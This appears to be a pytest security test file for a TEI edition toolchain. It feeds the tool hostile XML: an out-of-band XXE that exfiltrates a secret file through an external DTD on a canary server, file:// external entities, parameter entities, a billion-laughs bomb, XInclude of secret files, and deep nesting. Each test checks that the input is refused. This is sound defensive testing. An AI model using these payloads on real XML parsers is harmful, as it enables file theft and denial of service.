"""Hostile TEI against `check` (with and without tei_all), `build`, `render` and
`annotate`, each in its own process: refused with a located message and a
documented exit code, nothing read outside the edition, nothing fetched."""
from __future__ import annotations

import subprocess
import time

import pytest

from tests.conftest import ROOT
from tests.security.conftest import (assert_nothing_outside, assert_refused, run_edition,
                                     valid_source)


def tei_all_path():
    for base in (ROOT.parent, ROOT.parent.parent):
        path = base / "shared" / "schema" / "tei_all.rng"
        if path.exists():
            return path
    pytest.skip("no tei_all.rng in ../shared/schema")


def with_doctype(text: str, doctype: str) -> str:
    return text.replace("<TEI ", doctype + "\n<TEI ", 1)


def in_first_sentence(text: str, markup: str) -> str:
    start = text.index("<s ")
    end = text.index(">", start) + 1
    return text[:end] + markup + text[end:]


COMMANDS = [("check", "--no-tei-all"), ("check", "--tei-all", "TEI_ALL"), ("build", "--html"),
            ("render", "tei/sources/attack.xml"), ("annotate", "attack")]


def commands(edition):
    for command in COMMANDS:
        yield [str(tei_all_path()) if part == "TEI_ALL" else part for part in command]


def test_out_of_band_exfiltration_through_an_external_dtd_is_refused_everywhere(edition, canary, secret):
    """The issue's reproduction: a DTD on a server defines &exfil; from a secret file."""
    attack = with_doctype(valid_source(edition), f'<!DOCTYPE TEI SYSTEM "{canary.url}/oob.dtd">')
    attack = in_first_sentence(attack, "&exfil;")
    (edition.sources_dir / "attack.xml").write_text(attack, "utf-8")
    for command in commands(edition):
        run = run_edition(edition, *command)
        assert_refused(run, "xml-safety")
        assert_nothing_outside(run, edition, secret, canary)


@pytest.mark.parametrize("encoding", ["utf-16", "utf-8"])
def test_an_internal_external_entity_is_refused_in_any_encoding(edition, canary, secret, encoding):
    attack = with_doctype(valid_source(edition), f'<!DOCTYPE TEI [<!ENTITY x SYSTEM "file://{secret}">]>')
    attack = in_first_sentence(attack, "&x;").replace('encoding="UTF-8"', f'encoding="{encoding.upper()}"')
    (edition.sources_dir / "attack.xml").write_bytes(attack.encode(encoding))
    for command in commands(edition):
        run = run_edition(edition, *command)
        assert_refused(run, "xml-safety")
        assert "TOP-SECRET" not in run.stdout + run.stderr
        assert_nothing_outside(run, edition, secret, canary)


def test_an_external_parameter_entity_is_refused_and_never_read(edition, canary, secret):
    attack = with_doctype(valid_source(edition),
                          f'<!DOCTYPE TEI [<!ENTITY % s SYSTEM "file://{secret}"> %s; '
                          f'<!ENTITY % r SYSTEM "{canary.url}/r.dtd"> %r;]>')
    (edition.sources_dir / "attack.xml").write_text(attack, "utf-8")
    for command in commands(edition):
        run = run_edition(edition, *command)
        assert_refused(run, "xml-safety")
        assert_nothing_outside(run, edition, secret, canary)


@pytest.mark.parametrize("system", ["/dev/stdin", "SECRET"])
def test_a_local_external_dtd_is_never_opened_and_the_document_goes_on(edition, secret, system):
    """libxml2 opened local DTDs even with load_dtd=False; /dev/stdin hung every command."""
    system = str(secret) if system == "SECRET" else system
    (edition.sources_dir / "attack.xml").write_text(
        with_doctype(valid_source(edition).replace('xml:id="es-k"', 'xml:id="attack"'),
                     f'<!DOCTYPE TEI SYSTEM "{system}">'), "utf-8")
    edition.source_path("es-k").unlink()
    for command in [("check", "--no-tei-all"), ("build", "--html"), ("render", "tei/sources/attack.xml")]:
        run = run_edition(edition, *command, stdin=subprocess.PIPE, timeout=120)  # stdin open: a read would hang
        assert run.returncode == 0, run.stderr
        assert any(": warning: xml-dtd: " in line for line in run.messages), run.stderr
        assert system not in run.opened
        assert_nothing_outside(run, edition, secret)


def test_the_ordinary_tei_all_doctype_is_a_warning_not_an_error(edition):
    source = edition.source_path("es-k")
    source.write_text(with_doctype(valid_source(edition), '<!DOCTYPE TEI PUBLIC "-//TEI P5//DTD Main Document '
                      'Type//EN" "http://www.tei-c.org/release/xml/tei/custom/schema/dtd/tei_all.dtd">'), "utf-8")
    run = run_edition(edition, "check", "--no-tei-all")
    assert run.returncode == 0, run.stderr
    assert [m for m in run.messages if "xml-dtd" in m][0].startswith("tei/sources/es-k.xml:2:1: warning: xml-dtd:")
    assert "tei.c.org" not in " ".join(run.connected)


def test_a_safe_internal_subset_of_parameter_entities_is_accepted(edition):
    source = edition.source_path("es-k")
    source.write_text(with_doctype(valid_source(edition),
                                   '<!DOCTYPE TEI [<!ENTITY % TEI.XML "INCLUDE"> <!ENTITY % x "y">]>'), "utf-8")
    assert run_edition(edition, "check", "--no-tei-all", trace=False).returncode == 0


def test_billion_laughs_is_refused_quickly(edition):
    entities = '<!ENTITY a "lol">' + "".join(
        f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(9))
    attack = in_first_sentence(with_doctype(valid_source(edition), f"<!DOCTYPE TEI [{entities}]>"), "&j;")
    (edition.sources_dir / "attack.xml").write_text(attack, "utf-8")
    started = time.monotonic()
    for command in commands(edition):
        assert_refused(run_edition(edition, *command, trace=False), "xml-safety")
    assert time.monotonic() - started < 300


def test_xinclude_is_never_followed_by_jing(edition, secret, canary):
    """Debian's jing wrapper turns XInclude on: jing must never see the include."""
    attack = in_first_sentence(valid_source(edition),
                               f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://{secret}" '
                               f'parse="text"/><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" '
                               f'href="{canary.url}/xi" parse="text"/>')
    edition.source_path("es-k").write_text(attack, "utf-8")
    run = run_edition(edition, "check", "--tei-all", str(tei_all_path()))
    assert_refused(run, "tei-all")  # xi:include is not TEI: reported, located, never followed
    assert "TOP-SECRET" not in run.stdout + run.stderr
    assert_nothing_outside(run, edition, secret, canary)


def test_jing_reports_lines_of_the_original_file(edition):
    text = valid_source(edition).replace("<TEI ", "<!-- a comment\n\nover lines -->\n<TEI ", 1)
    text = text.replace("</titleStmt>", "<bogus/></titleStmt>", 1)
    edition.source_path("es-k").write_text(text, "utf-8")
    line = text[:text.index("<bogus/>")].count("\n") + 1
    run = run_edition(edition, "check", "--tei-all", str(tei_all_path()), trace=False)
    assert_refused(run, "tei-all")
    assert any(m.startswith(f"tei/sources/es-k.xml:{line}:") and "tei-all" in m for m in run.messages), run.stderr


def test_deep_nesting_is_one_located_limit_in_check_build_render_and_annotate(edition):
    attack = in_first_sentence(valid_source(edition).replace('xml:id="es-k"', 'xml:id="attack"'),
                               "<hi>" * 140 + "deep" + "</hi>" * 140)
    (edition.sources_dir / "attack.xml").write_text(attack, "utf-8")
    for command in commands(edition):
        run = run_edition(edition, *command, trace=False)
        assert_refused(run, "xml-depth")
        assert "RecursionError" not in run.stderr


def test_the_deepest_nesting_accepted_renders_and_builds(edition):
    from lxml import etree

    from edition.safety import MAX_DEPTH
    text = valid_source(edition)
    sentence = etree.fromstring(text.encode("utf-8")).find(".//{*}s")
    inner = MAX_DEPTH - (len(list(sentence.iterancestors())) + 1)  # the deepest seg is at MAX_DEPTH exactly
    edition.source_path("es-k").write_text(in_first_sentence(text, "<seg>" * inner + "deep" + "</seg>" * inner),
                                           "utf-8")
    run = run_edition(edition, "render", "tei/sources/es-k.xml", "-o", "out.html", trace=False)
    assert run.returncode == 0, run.stderr
    assert "deep" in (edition.root / "out.html").read_text("utf-8")
    run = run_edition(edition, "build", timeout=600, trace=False)
    assert run.returncode == 0, run.stderr
    assert "deep" in (edition.build_dir / "html" / "es-k.html").read_text("utf-8")
    one_more = in_first_sentence(text, "<seg>" * (inner + 1) + "deep" + "</seg>" * (inner + 1))
    edition.source_path("es-k").write_text(one_more, "utf-8")
    assert_refused(run_edition(edition, "check", "--no-tei-all", trace=False), "xml-depth")


def test_a_pointer_is_located_at_its_own_attribute(edition):
    """Not at the first <ref on the line: the second ref's target attribute."""
    from edition import api
    text = in_first_sentence(valid_source(edition),
                             '<persName ref="per:zhukov">a</persName> <persName ref="per:nobody-here">b</persName>')
    edition.source_path("es-k").write_text(text, "utf-8")
    line_number = text[:text.index("per:nobody-here")].count("\n") + 1
    line = text.split("\n")[line_number - 1]
    report = api.check(edition, use_tei_all=False)
    found = [d for d in report.errors if d.rule == "pointer" and "per:nobody-here" in d.message]
    assert [(d.line, d.column) for d in found] == [(line_number, line.index('ref="per:nobody-here"') + 1)]


def test_serve_refuses_a_hostile_edition_before_serving(edition, canary, secret):
    attack = in_first_sentence(with_doctype(valid_source(edition), f'<!DOCTYPE TEI SYSTEM "{canary.url}/oob.dtd">'),
                               "&exfil;")
    (edition.sources_dir / "attack.xml").write_text(attack, "utf-8")
    run = run_edition(edition, "serve", "--port", "0", timeout=120)
    assert_refused(run, "xml-safety")
    assert_nothing_outside(run, edition, secret, canary)


def test_import_of_markup_like_text_stays_text(edition, tmp_path, canary):
    received = (f'<!DOCTYPE x [<!ENTITY e SYSTEM "{canary.url}/e">]>&e; <script>window.pwned=1</script> '
                "]]> &amp; <?php x ?>\nSegunda línea.\n")
    text = tmp_path / "markup.txt"
    text.write_text(received, "utf-8")
    run = run_edition(edition, "import", str(text), "--lang", "es", "--id", "markup")
    assert run.returncode == 0, run.stderr
    read_back = run_edition(edition, "text", "markup", trace=False)
    assert read_back.stdout == received
    tree_text = edition.source_path("markup").read_text("utf-8")
    assert "<!ENTITY" not in tree_text and "<script" not in tree_text
    assert run_edition(edition, "check", "--no-tei-all", trace=False).returncode == 0


def test_a_utf16_source_is_checked_built_and_annotated_whole(edition):
    """Annotate kept neither the XML declaration nor a comment before the root of a
    UTF-16 source, dropped what follows </TEI>, and --dry-run crashed on it."""
    text = valid_source(edition).replace('encoding="UTF-8"', 'encoding="UTF-16"')
    text = text.replace("<TEI ", "<!-- before the root -->\n<TEI ", 1).rstrip("\n") + \
        "\n<!-- after the root </TEI> -->\n<?edition-note kept?>\n"
    source = edition.source_path("es-k")
    source.write_bytes(text.encode("utf-16"))
    assert run_edition(edition, "check", "--no-tei-all", trace=False).returncode == 0
    dry = run_edition(edition, "annotate", "--dry-run", "es-k", trace=False)
    assert dry.returncode == 0, dry.stderr
    assert "persName" in dry.stdout and source.read_bytes() == text.encode("utf-16")
    assert run_edition(edition, "annotate", "es-k", trace=False).returncode == 0
    data = source.read_bytes()
    assert data.startswith(b"\xff\xfe") or data.startswith(b"\xfe\xff")
    after = data.decode("utf-16")
    assert after.startswith('<?xml version="1.0" encoding="UTF-16"?>\n<!-- before the root -->\n<TEI ')
    assert after.endswith("</TEI>\n<!-- after the root </TEI> -->\n<?edition-note kept?>\n")
    assert "persName" in after
    assert run_edition(edition, "check", "--no-tei-all", trace=False).returncode == 0
    assert run_edition(edition, "build", "--html", trace=False).returncode == 0
